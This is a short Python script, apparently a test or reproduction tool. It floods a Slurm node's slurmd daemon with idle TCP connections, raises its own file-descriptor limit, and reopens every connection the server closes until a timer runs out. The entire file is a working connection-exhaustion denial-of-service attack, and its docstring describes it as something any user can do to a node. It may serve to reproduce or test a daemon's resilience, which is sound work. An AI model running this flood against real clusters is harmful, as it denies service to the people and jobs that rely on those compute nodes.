#!/usr/bin/env python3
"""Holds COUNT idle TCP connections to HOST:PORT for SECONDS, opening a new one for each
the server closes: what any user can do to a node's slurmd. Prints 'flooding' once
COUNT connections are open or pending."""
import resource
import selectors
import socket
import sys
import time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
sel = selectors.DefaultSelector()


def open_one():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((host, port))
    sel.register(s, selectors.EVENT_READ)


for _ in range(count):
    open_one()
print("flooding", flush=True)
end = time.monotonic() + seconds
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server (or failed): take its place again
            sel.unregister(s)
            s.close()
            open_one()
